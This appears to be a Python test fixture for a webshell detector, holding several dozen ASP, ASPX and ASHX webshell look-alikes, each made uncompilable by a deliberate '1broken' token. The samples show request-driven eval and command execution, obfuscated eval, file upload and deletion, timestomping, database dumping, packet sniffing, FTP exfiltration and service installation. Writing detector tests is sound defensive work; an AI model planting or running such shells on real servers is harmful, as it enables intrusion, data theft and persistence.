# ruff: noqa: E501 - the lines of these pages are as long as such pages have them
"""Look-alikes of further kinds of pages that collections hold; none can run, `1broken` stops each compiler."""

from tests.detection.webshell.second_samples import cut

PAGES = cut(
    r"""
==== upload-dictionary.asp
<% Dim 1broken
Set parts = CreateObject("Scripting.Dictionary")
Sub Cut(raw)
 Dim one, p
 p = 1 : mark = MidB(raw, 1, InStrB(1, raw, ChrB(13)) - 1)
 Do While p > 0
  Set one = CreateObject("Scripting.Dictionary")
  nm = Txt(MidB(raw, p + 10, 20)) : fn = Txt(MidB(raw, p + 40, 30))
  one.Add "File", fn : one.Add "Body", MidB(raw, p + 90, 500) : parts.Add nm, one
  p = InStrB(p + 1, raw, mark)
 Loop
End Sub
Function Txt(b) : Txt = "" : For i = 1 To LenB(b) : Txt = Txt & Chr(AscB(MidB(b, i, 1))) : Next : End Function
If Request("go") = "1" Then
 Cut Request.BinaryRead(Request.TotalBytes)
 body = parts.Item("f").Item("Body") : folder = parts.Item("dir").Item("Body") : nm = parts.Item("f").Item("File")
 Set o = Server.CreateObject("Scripting.FileSystemObject").CreateTextFile(folder & nm)
 For i = 1 To LenB(body) : o.Write Chr(AscB(MidB(body, i, 1))) : Next
 o.Close
End If %>
==== write-scanner.asp
<% Dim 1broken
Const NM = "Scripting.FileSystemObject"
Function Tail(p) : Tail = p : If Right(p, 1) <> "\" Then Tail = p & "\" : End Function
Function Can(p)
 On Error Resume Next
 Set f = CreateObject(NM) : t = Tail(p) & f.GetTempName
 f.CreateTextFile t
 Can = (Err.Number = 0)
 f.DeleteFile t
End Function
Sub Walk(p)
 If Can(p) Then Response.Write "w " & p & "<br>"
 For Each d In CreateObject(NM).GetFolder(p).SubFolders : Walk d.Path : Next
End Sub
For Each p In Split(Request("paths"), vbCrLf) : Walk Trim(p) : Next %>
==== write-scanner.aspx
<%@ Page Language="C#" %><script runat="server">
void Walk(string p) { try { var t = System.IO.Path.Combine(p, "t.tmp"); System.IO.File.WriteAllText(t, "x"); System.IO.File.Delete(t); Response.Write(p + " ok<br>"); } catch { }
 try { foreach (var d in System.IO.Directory.GetDirectories(p)) Walk(d); } catch { } }
void Page_Load() { int 1broken; Walk(@"C:\"); }
</script>
==== surf.asp
<%@ Language="JScript" %><% var 1broken;
var to = String(Request.QueryString("u")), form = Request.QueryString("f") == "1";
if (to == "undefined") { %><html><body><form><input name=u> Allow forms <input type=checkbox name=f value=1></form></body></html><% }
else { if (to.substr(0, 7) != "http://") to = "http://" + to; Response.Write(Fetch()); }
function Fetch() { var x; try {
 if (form) { var d = String(Request.Form); x = Server.CreateObject("MSXML2.XMLHTTP"); x.Open("POST", to, false); x.setRequestHeader("Content-Type", "application/x-www-form-urlencoded"); x.Send(d); }
 else { x = Server.CreateObject("Microsoft.XMLHTTP"); x.Open("GET", to, false); x.Send(null); } } catch (e) { Response.Write(e.description); Response.End(); }
 return x.ResponseText.replace(/href="/ig, 'href="?u='); } %>
==== attributes.asp
<% Dim 1broken
Set p = Request.Form("p") : Set n = Request.Form("n") : Set a = Request.Form("a")
If p <> "" Then
 Set f = Server.CreateObject("Scripting.FileSystemObject")
 If n = "" Then
  For Each x In f.GetFolder(p).Files : f.GetFile(x.Path).Attributes = a : Next
 Else
  Set g = f.GetFile(p & n) : g.Attributes = a
 End If
End If %>
==== shifted.asp
<% Dim 1broken
t = "Li#Uhtxhvw+%n%,#A#%%#Wkhq#Hydo#Uhtxhvw+%n%,"
execute (turn (t))
Function turn (c)
 For i = 1 To Len (c)
  k = Mid (c, i, 1)
  If Asc (k) = 35 Then
   k = " "
  Else
   k = Chr (Asc (k) - 3)
  End If
  turn = turn & k
 Next
End Function %>
==== pasted.aspx
<%@ Page Language=”C#” %>
<script runat=”server”>
protected void Go(object sender, EventArgs e) { int 1broken;
 string s = “server=”+txtServer.Text+”;database=”+txtBase.Text+”;uid=”+txtUser.Text+”;pwd=”+txtPass.Text;
 System.Data.SqlClient.SqlConnection c = new System.Data.SqlClient.SqlConnection(s); c.Open();
 string q = “select * from “+txtTable.Text;
 if (txtCol.Text!=”\") { q = “select ” + txtCol.Text + ” from ” + txtTable.Text; }
 System.Data.SqlClient.SqlDataAdapter a = new System.Data.SqlClient.SqlDataAdapter(new System.Data.SqlClient.SqlCommand(q, c));
 System.Data.DataSet d = new System.Data.DataSet(); a.Fill(d);
 System.IO.StreamWriter w = new System.IO.StreamWriter(Server.MapPath(“out”)+”\\\\” + txtFile.Text, false); foreach (System.Data.DataRow r in d.Tables[0].Rows) w.WriteLine(r[0]); w.Close(); }
</script><form runat=”server”><asp:TextBox ID=”txtServer” runat=”server”/><asp:TextBox ID=”txtBase” runat=”server”/><asp:TextBox ID=”txtUser” runat=”server”/><asp:TextBox ID=”txtPass” runat=”server”/><asp:TextBox ID=”txtTable” runat=”server”/><asp:TextBox ID=”txtCol” runat=”server”/><asp:TextBox ID=”txtFile” runat=”server”/></form>
==== procedures.aspx
<%@ Page Language="C#" %><script runat="server">
void Go(object s, EventArgs e) { int 1broken; if (key.Text != "k") return;
 var c = new SqlConnection(); c.ConnectionString = "Data source=" + server.Text + ";User id=" + user.Text + ";Password=" + pass.Text + ";Initial catalog=" + bas.Text;
 c.Open(); var m = new SqlCommand(procs.SelectedItem.Value, c); m.CommandType = CommandType.StoredProcedure; var a = new SqlDataAdapter(m); var d = new DataSet(); a.Fill(d, "R"); g.DataSource = d; g.DataBind(); }
</script><form runat="server"><asp:TextBox id="key" runat="server"/><asp:TextBox id="server" runat="server"/><asp:TextBox id="user" runat="server"/><asp:TextBox id="pass" runat="server"/><asp:TextBox id="bas" runat="server"/><asp:DropDownList id="procs" runat="server"/><asp:DataGrid id="g" runat="server"/></form>
==== sniffer.aspx
<%@ Page Language="C#" %><%@ Import Namespace="System.Net.Sockets" %><script runat="server">
static Socket k; static System.IO.StreamWriter w;
void Page_Load() { int 1broken; k = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.IP);
 k.Bind(new System.Net.IPEndPoint(System.Net.IPAddress.Parse(Request["ip"]), 0)); k.IOControl(IOControlCode.ReceiveAll, new byte[] { 1, 0, 0, 0 }, new byte[4]);
 w = new System.IO.StreamWriter(Server.MapPath("s.log"), true); var b = new byte[65535]; while (true) { int n = k.Receive(b); w.WriteLine(System.Text.Encoding.ASCII.GetString(b, 0, n)); } }
</script>
==== database-only.asp
<% Dim 1broken
Set c = Server.CreateObject("ADODB.Connection") : c.Open Request("cs")
Set s = c.OpenSchema(20)
Do Until s.EOF : Response.Write s("TABLE_NAME") & "<br>" : s.MoveNext : Loop %>
==== table-dump.aspx
<%@ Page Language="C#" %><% int 1broken; using (var c = new SqlConnection(Request["c"])) { c.Open(); foreach (DataRow r in c.GetSchema("Tables").Rows) { var d = new DataTable(); new SqlDataAdapter("select * from " + r[2], c).Fill(d); d.WriteXml(Server.MapPath(r[2] + ".xml")); } } %>
==== attribute-keep.asp
<%Dim 1broken : Eval(Request(Chr(112))):Set f=CreateObject("Scripting.FileSystemObject").GetFile(Request.ServerVariables("PATH_TRANSLATED")):If f.Attributes<>39 Then:f.Attributes=39:End If%>
==== wmi-remote.aspx
<%@ Page Language="VB" %><script runat="server">
Sub Go(s As Object, e As EventArgs)
 Dim 1broken
 Dim l = CreateObject("WbemScripting.SWbemLocator")
 Dim v = l.ConnectServer(host.Text, "root\cimv2", user.Text, pass.Text)
 For Each p In v.ExecQuery(query.Text)
  For Each q In p.Properties_ : Response.Write(q.Name & "=" & q.Value & "<br>") : Next
 Next
End Sub</script><form runat="server"><asp:TextBox id="host" runat="server"/><asp:TextBox id="user" runat="server"/><asp:TextBox id="pass" runat="server"/><asp:TextBox id="query" runat="server"/></form>
==== wmi-query.asp
<% Dim 1broken
Set v = GetObject("winmgmts:\\.\root\cimv2")
For Each p In v.ExecQuery(Request("q")) : For Each x In p.Properties_ : Response.Write x.Name & "=" & x.Value & "<br>" : Next : Next %>
==== clone-time.aspx
<%@ Page Language="VB" %><script runat="server">
Sub Clone(s As Object, e As EventArgs)
 Dim 1broken
 Dim a As FileInfo = New FileInfo(one.Text) : Dim b As FileInfo = New FileInfo(two.Text)
 a.LastWriteTime = b.LastWriteTime : a.CreationTime = b.CreationTime
End Sub</script><form runat="server"><asp:TextBox id="one" runat="server"/><asp:TextBox id="two" runat="server"/></form>
==== two-quotes.asp
<%execute(""&request("k")&"")' 1broken
Dim 1broken%>
==== by-number.asp
<% Dim 1broken : ExecuteGlobal Request(0) %>
==== error-page.asp
<%@ Language="VBScript" %><% Dim 1broken : On Error Resume Next : strT = Request.QueryString : If InStr(strT, "404;") Then Execute(Mid(strT, 6)) %>
==== comments-in-tags.asp
<%' <!-- Dim x %><% Dim 1broken %><%
'--><script>
Eval Request("k")
%>
==== long-line.asp
<% Dim 1broken:a=request("k")%><%execute a'<%%>
==== jscript-block.asp
<script runat=server language=jscript>
var 1broken; function z(x) { return this["ev" + "al"](x) } z(Request("k") + "")
</script>
==== f2.aspx
<%@ Page Language="C#" %><script runat="server">
void Go() { int 1broken; string q = "dir " + b.Text; if (a.Text!="") { q = "dir " + a.Text + b.Text; } System.Diagnostics.Process.Start("cmd", "/c " + q); }
</script><asp:TextBox id="a" runat="server"/><asp:TextBox id="b" runat="server"/>
==== stream-read.asp
<% Dim 1broken : Set s = Server.CreateObject("ADODB.Stream") : s.Type = 2 : s.Charset = Request("cs") : s.Open : s.LoadFromFile Request("p") : Response.Write Server.HTMLEncode(s.ReadText) %>
==== stream-copy.aspx
<%@ Page Language="C#" %><% int 1broken; using (var o = System.IO.File.OpenWrite(Request.QueryString["to"])) Request.InputStream.CopyTo(o); %>
==== sections.aspx
<%@ Page Language="C#" %><% int 1broken; var c = System.Web.Configuration.WebConfigurationManager.OpenWebConfiguration("~"); var h = (System.Web.Configuration.HttpHandlersSection)c.GetSection("system.web/httpHandlers"); h.Handlers.Add(new System.Web.Configuration.HttpHandlerAction(Request["p"], Request["t"], "*")); c.Save(); %>
==== service-install.aspx
<%@ Page Language="VB" %><script runat="server">
Declare Auto Function OpenSCManager Lib "advapi32.dll" (ByVal m As String, ByVal d As String, ByVal a As Integer) As IntPtr
Declare Auto Function CreateService Lib "advapi32.dll" (ByVal h As IntPtr, ByVal n As String, ByVal s As String, ByVal a As Integer, ByVal t As Integer, ByVal st As Integer, ByVal e As Integer, ByVal p As String, ByVal g As String, ByVal i As Integer, ByVal dd As String, ByVal u As String, ByVal w As String) As IntPtr
Sub Page_Load()
 Dim 1broken
 CreateService(OpenSCManager(Nothing, Nothing, 2), Request("n"), Request("n"), 16, 16, 2, 0, Request("p"), Nothing, 0, Nothing, Nothing, Nothing)
End Sub</script>
==== cookie-gate.aspx
<%@ Page Language="C#" %><script runat="server">
protected void Page_Load(object s, EventArgs e) { int 1broken; if (Request.Cookies["t"] == null || Request.Cookies["t"].Value != "v") { Response.StatusCode = 404; return; }
 var a = Request.Headers["Accept-Language"].Split(','); var q = System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(a[a.Length - 1]));
 var i = new System.Diagnostics.ProcessStartInfo { FileName = q.Split('\n')[0], Arguments = q.Split('\n')[1], UseShellExecute = false, RedirectStandardOutput = true }; Response.Write(System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd()); }
</script>
==== handler-factory.ashx
<%@ WebHandler Language="C#" Class="F" %>
public class F : IHttpHandlerFactory { int 1broken; public IHttpHandler GetHandler(HttpContext c, string t, string u, string p) { return (IHttpHandler)System.Reflection.Assembly.Load(c.Request.BinaryRead(c.Request.ContentLength)).CreateInstance("H"); } public void ReleaseHandler(IHttpHandler h) { } }
==== select-method.aspx
<%@ Page Language="C#" %><script runat="server">
int 1broken; public IEnumerable<string> List([System.Web.ModelBinding.QueryString] string d) { return System.IO.Directory.GetFileSystemEntries(d); }
public void Drop([System.Web.ModelBinding.QueryString] string d) { System.IO.File.Delete(d); }
</script><asp:ListView SelectMethod="List" DeleteMethod="Drop" runat="server"/>
==== object-source.aspx
<%@ Page Language="C#" %><form runat="server"><asp:SqlDataSource id="q" runat="server" ConnectionString="<%$ ConnectionStrings:main %>"/><asp:TextBox id="t" runat="server"/><asp:GridView DataSourceID="q" runat="server"/></form><script runat="server">
void Page_Load() { int 1broken; if (IsPostBack) q.SelectCommand = t.Text; }
</script>
==== ad-hoc-source.aspx
<%@ Page Language="VB" %><script runat="server">
Sub Go(s As Object, e As EventArgs)
 Dim 1broken
 Dim d As New AccessDataSource(Server.MapPath(f.Text), q.Text)
 g.DataSource = d.Select(DataSourceSelectArguments.Empty) : g.DataBind()
End Sub</script><form runat="server"><asp:TextBox id="f" runat="server"/><asp:TextBox id="q" runat="server"/><asp:GridView id="g" runat="server"/></form>
==== zip-site.aspx
<%@ Page Language="C#" %><% int 1broken; var t = System.IO.Path.GetTempFileName() + ".zip"; System.IO.Compression.ZipFile.CreateFromDirectory(Request["d"], t); Response.TransmitFile(t); %>
==== ftp-steal.aspx
<%@ Page Language="C#" %><% int 1broken; var w = new System.Net.WebClient(); w.Credentials = new System.Net.NetworkCredential(Request["u"], Request["p"]); w.UploadFile("ftp://" + Request["h"] + "/x", Request["f"]); %>
==== copy-native.aspx
<%@ Page Language="VB" %><script runat="server">
Declare Function CopyFile Lib "kernel32" Alias "CopyFileA" (ByVal a As String, ByVal b As String, ByVal c As Boolean) As Long
Sub Go(s As Object, e As EventArgs)
 Dim 1broken
 CopyFile(one.Text, two.Text, False)
End Sub</script><form runat="server"><asp:TextBox id="one" runat="server"/><asp:TextBox id="two" runat="server"/></form>
"""
)
